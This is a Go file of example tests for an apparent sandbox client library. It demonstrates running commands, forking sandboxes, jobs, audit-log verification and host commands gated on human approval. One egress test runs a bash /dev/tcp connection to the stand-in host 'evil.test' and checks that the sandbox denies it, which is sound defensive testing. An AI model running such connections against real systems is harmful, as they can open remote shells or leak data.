package client_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log"
	"os"
	"strings"
	"time"

	"demesne/client"
)

// connect returns a client of a server that the environment names.
func connect() *client.Client {
	c, err := client.New(client.Options{URL: os.Getenv("DEMESNE_URL"), Token: os.Getenv("DEMESNE_TOKEN")})
	if err != nil {
		log.Fatal(err)
	}
	return c
}

// A command has a time limit, and a result also if it fails.
func ExampleClient_Run() {
	c := connect()
	defer c.Close()
	r, err := c.Run(context.Background(), client.RunRequest{
		Command: client.Command{Command: "echo $((6 * 7)); ls /none", TimeoutMS: 10_000},
		Limits:  &client.Limits{Memory: 256 << 20},
	})
	if err != nil {
		log.Fatal(err) // no sandbox, no connection: the command did not run
	}
	fmt.Print(r.Stdout.Text)
	fmt.Println(r.Reason, r.ExitCode != 0, r.Stderr.Text != "")
	// Output:
	// 42
	// exited true true
}

// Output comes while the command runs.
func ExampleClient_RunStream() {
	c := connect()
	defer c.Close()
	_, err := c.RunStream(context.Background(), client.RunRequest{Command: client.Command{Argv: []string{"seq", "3"}}}, client.Streams{Stdout: os.Stdout})
	if err != nil {
		log.Fatal(err)
	}
	// Output:
	// 1
	// 2
	// 3
}

// A persistent sandbox keeps its files between commands. A fork has a copy of them.
func ExampleSandboxes() {
	ctx := context.Background()
	c := connect()
	defer c.Close()
	sb, err := c.Sandboxes().Create(ctx, client.CreateRequest{TTLSeconds: 3600})
	if err != nil {
		log.Fatal(err)
	}
	defer c.Sandboxes().Remove(ctx, sb.ID)
	if _, err := c.Files(sb.ID).Write(ctx, "data.txt", []byte("one\ntwo\n")); err != nil {
		log.Fatal(err)
	}
	fork, err := c.Sandboxes().Fork(ctx, sb.ID, "")
	if err != nil {
		log.Fatal(err)
	}
	defer c.Sandboxes().Remove(ctx, fork.ID)
	r, err := c.Sandboxes().Exec(ctx, fork.ID, client.Command{Command: "echo three >> data.txt; wc -l < data.txt"})
	if err != nil {
		log.Fatal(err)
	}
	b, err := c.Files(sb.ID).Read(ctx, "data.txt")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(strings.TrimSpace(r.Stdout.Text), "lines in the fork,", strings.Count(string(b), "\n"), "in the sandbox")
	// Output: 3 lines in the fork, 2 in the sandbox
}

// Errors have kinds, and say which field of a request is wrong.
func ExampleError() {
	ctx := context.Background()
	c := connect()
	defer c.Close()
	_, err := c.Sandboxes().Get(ctx, "none")
	fmt.Println(errors.Is(err, client.ErrNotFound))
	_, err = c.Run(ctx, client.RunRequest{Command: client.Command{Command: "true", TimeoutMS: -1}})
	var e *client.Error
	if errors.As(err, &e) {
		fmt.Println(e.Code, e.Data[0].Location)
	}
	// Output:
	// true
	// 422 body.timeout_ms
}

// A sandbox with Ask asks about names that no rule covers. A loop answers until its context ends.
func ExampleEgress() {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	c := connect()
	defer c.Close()
	go func() {
		for n, err := range c.Egress().Follow(ctx) {
			if err != nil {
				return
			}
			if n.Question != nil {
				c.Egress().Answer(ctx, n.Question.ID, strings.HasSuffix(n.Question.Name, ".example"))
			}
		}
	}()
	r, err := c.Run(ctx, client.RunRequest{
		Command: client.Command{Argv: []string{"bash", "-c", "exec 3<>/dev/tcp/evil.test/443; cat <&3"}},
		Network: &client.Network{Ask: true},
	})
	if err != nil {
		log.Fatal(err)
	}
	for _, d := range r.Denied {
		fmt.Println(d.Host, d.Port)
	}
	// Output: evil.test 443
}

// Events show what happens, also to the sandboxes of other programs.
func ExampleClient_Events() {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	c := connect()
	defer c.Close()
	r, err := c.Run(ctx, client.RunRequest{Command: client.Command{Command: "exit 3"}})
	if err != nil {
		log.Fatal(err)
	}
	for e, err := range c.Events(ctx, client.EventFilter{Sandbox: r.Sandbox, Type: "execution.failed", Last: 100}) {
		if err != nil {
			log.Fatal(err)
		}
		fmt.Println(e.Type, e.Detail["exit_code"])
		break
	}
	// Output: execution.failed 3
}

// A job outlives its client. Its output can be read while it runs.
func ExampleJobs() {
	ctx := context.Background()
	c := connect()
	defer c.Close()
	j, err := c.Jobs().Start(ctx, client.JobRequest{Command: client.Command{Command: "echo working; sleep 0.1; echo done"}})
	if err != nil {
		log.Fatal(err)
	}
	out, err := c.Jobs().Output(ctx, j.ID, "stdout")
	if err != nil {
		log.Fatal(err)
	}
	defer out.Close()
	if _, err := io.Copy(os.Stdout, out); err != nil {
		log.Fatal(err)
	}
	if j, err = c.Jobs().Wait(ctx, j.ID); err != nil {
		log.Fatal(err)
	}
	fmt.Println(j.Status, *j.Exit)
	// Output:
	// working
	// done
	// succeeded 0
}

// The files in /out outlive their sandbox.
func ExampleOutputs() {
	ctx := context.Background()
	c := connect()
	defer c.Close()
	r, err := c.Run(ctx, client.RunRequest{Command: client.Command{Command: "echo 42 > /out/answer.txt"}})
	if err != nil {
		log.Fatal(err)
	}
	f, err := c.Outputs().Open(ctx, r.Run, "answer.txt")
	if err != nil {
		log.Fatal(err)
	}
	defer f.Close()
	if _, err := io.Copy(os.Stdout, f); err != nil {
		log.Fatal(err)
	}
	// Output: 42
}

// The audit log has what happened before the program started too. A later check finds the log of an earlier one in it.
func ExampleAudit() {
	ctx := context.Background()
	c := connect()
	defer c.Close()
	r, err := c.Run(ctx, client.RunRequest{Command: client.Command{Command: "exit 3"}})
	if err != nil {
		log.Fatal(err)
	}
	all, err := c.Audit().List(ctx, client.EventFilter{Sandbox: r.Sandbox, Type: "execution.failed"})
	if err != nil {
		log.Fatal(err)
	}
	for _, e := range all {
		fmt.Println(e.Type, e.Detail["exit_code"])
	}
	report, err := c.Audit().Verify(ctx, "")
	if err != nil {
		log.Fatal(err)
	}
	later, err := c.Audit().Verify(ctx, fmt.Sprint(report.Last, ":", report.SHA256))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(len(report.Wrong), len(later.Wrong))
	// Output:
	// execution.failed 3
	// 0 0
}

// A request for the host waits for a person, whose program shows what it is and approves by the digest of that.
func ExampleHost() {
	ctx := context.Background()
	c := connect()
	defer c.Close()
	o, err := c.Host().Exec(ctx, client.HostExec{Argv: []string{"basename", "/tmp/x"}})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(o.State)
	waiting, err := c.Host().Requests(ctx, "pending")
	if err != nil {
		log.Fatal(err)
	}
	for _, r := range waiting {
		if r.ID != o.ID {
			continue
		}
		fmt.Println(r.Text)
		if err := c.Host().Approve(ctx, r.ID, client.HostApproval{Digest: r.Digest}); err != nil {
			log.Fatal(err)
		}
	}
	if o, err = c.Host().Result(ctx, o.ID, time.Minute); err != nil {
		log.Fatal(err)
	}
	fmt.Print(o.State, " ", *o.Stdout)
	// Output:
	// pending
	// basename /tmp/x
	// done x
}
